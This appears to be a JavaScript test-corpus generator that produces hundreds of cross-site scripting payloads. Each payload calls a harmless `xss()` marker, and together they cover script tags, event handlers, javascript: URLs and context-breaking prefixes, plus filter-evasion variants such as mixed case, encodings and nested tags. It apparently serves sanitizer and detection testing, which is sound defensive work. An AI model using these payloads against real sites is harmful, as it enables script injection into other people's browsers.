// 500 texts that would run a script if any page let them. Each calls `xss()`.

const CALLS = ['xss()', 'self["xss"]()', 'xss``', 'window.xss&&xss()', '[1].map(xss)'];

/** Elements that run `call`, by themselves or when touched. */
function elements(call) {
  const quiet = call.replaceAll('"', "'");
  return [
    `<script>${call}</script>`,
    `<ScRiPt>${call}</sCrIpT>`,
    `<script\t>${call}</script\n>`,
    `<script type=module>${call}</script>`,
    `<img src=x onerror="${quiet}">`,
    `<img/src=x/onerror="${quiet}">`,
    `<svg onload="${quiet}">`,
    `<svg><script>${call}</script></svg>`,
    `<svg><animate onbegin="${quiet}" attributeName=x dur=1s>`,
    `<math><mi><img src=x onerror="${quiet}"></mi></math>`,
    `<iframe srcdoc="&lt;script&gt;parent.${quiet.replaceAll('window.', '')}&lt;/script&gt;"></iframe>`,
    `<iframe src="javascript:parent.xss()"></iframe>`,
    `<object data="javascript:${quiet}"></object>`,
    `<embed src="javascript:${quiet}">`,
    `<details open ontoggle="${quiet}"><summary>x</summary></details>`,
    `<input autofocus onfocus="${quiet}">`,
    `<select autofocus onfocus="${quiet}"></select>`,
    `<video><source onerror="${quiet}"></video>`,
    `<audio src=x onerror="${quiet}"></audio>`,
    `<body onload="${quiet}" onpageshow="${quiet}">`,
    `<marquee onstart="${quiet}">x</marquee>`,
    `<a href="javascript:${quiet}" data-click>x</a>`,
    `<a href=" java\tscript:${quiet}" data-click>x</a>`,
    `<form action="javascript:${quiet}"><button data-click>x</button></form>`,
    `<button onclick="${quiet}" data-click>x</button>`,
    `<template><script>${call}</script></template><img src onerror="${quiet}">`,
    `<style onload="${quiet}"></style>`,
    `<link rel=stylesheet href=data:, onload="${quiet}">`,
  ];
}

/** Ways out of what a text may stand in. */
const BREAKS = [
  (inner) => inner,
  (inner) => `">${inner}`,
  (inner) => `'>${inner}`,
  (inner) => `</title>${inner}`,
  (inner) => `</script>${inner}`,
  (inner) => `</textarea>${inner}`,
  (inner) => `--><!-- --!>${inner}`,
  (inner) => `]]>${inner}`,
  (inner) => `</style></noscript></select>${inner}`,
  (inner) => `{{{x}}}${inner}{{#a}}`,
];

/** Texts for attributes, addresses and templates rather than between tags. */
function others(call) {
  const quiet = call.replaceAll('"', "'");
  return [
    `javascript:${quiet}`,
    `JaVaScRiPt:${quiet}//https://x.example/`,
    `\u0001javascript:${quiet}`,
    `java\nscript:${quiet}`,
    `data:text/html,<script>parent.xss()</script>`,
    `vbscript:${quiet}`,
    `https://x.example/" onmouseover="${quiet}" data-x="`,
    `https://x.example/' autofocus onfocus='${quiet.replaceAll("'", '')}' x='`,
    `" autofocus onfocus="${quiet}" tabindex="0" x="`,
    `' autofocus onfocus='${quiet.replaceAll("'", '')}' tabindex='0' x='`,
    `{{constructor.constructor("${quiet}")()}}`,
    `\${${call}}`,
    `<%= ${call} %>`,
    `\uFE64script\uFE65${call}\uFE64/script\uFE65`,
    `&lt;img src=x onerror=${quiet}&gt;`,
    `&#60;script&#62;${call}&#60;/script&#62;`,
    `%3Cscript%3E${call}%3C/script%3E`,
    `\u202E<script>${call}</script>`,
    `<scr<script>ipt>${call}</scr</script>ipt>`,
    `</script ><svg/onload="${quiet}"//`,
  ];
}

/** Exactly `count` of them, all different, each kind among them. */
export function payloads(count = 500) {
  const all = new Set();
  CALLS.forEach((call) => others(call).forEach((text) => all.add(text)));
  // Every element in every way out, the call changing as they go.
  for (let round = 0; all.size < count && round < CALLS.length; round += 1) {
    BREAKS.forEach((wrap, at) => {
      elements(CALLS[(at + round) % CALLS.length]).forEach((element) => {
        if (all.size < count) all.add(wrap(element));
      });
    });
  }
  return [...all];
}

/** One of each kind, each way out of what it stands in among them. */
export function kinds() {
  const [call] = CALLS;
  return [...others(call), ...elements(call).map((element, at) => BREAKS[at % BREAKS.length](element))];
}

/**
 * The texts in fewer, `count` to one and at most `bytes` long. What has to stand alone in an attribute or an address to
 * run stays alone.
 */
export function joined(texts, count, bytes = Infinity) {
  const alone = new Set(CALLS.flatMap(others));
  const groups = [];
  let open = false;
  let members = 0;
  for (const text of texts) {
    const longer = open && members < count ? `${groups.at(-1)} ${text}` : '';
    if (longer && !alone.has(text) && Buffer.byteLength(longer) <= bytes) {
      groups[groups.length - 1] = longer;
      members += 1;
    } else {
      groups.push(text);
      open = !alone.has(text);
      members = 1;
    }
  }
  return groups;
}
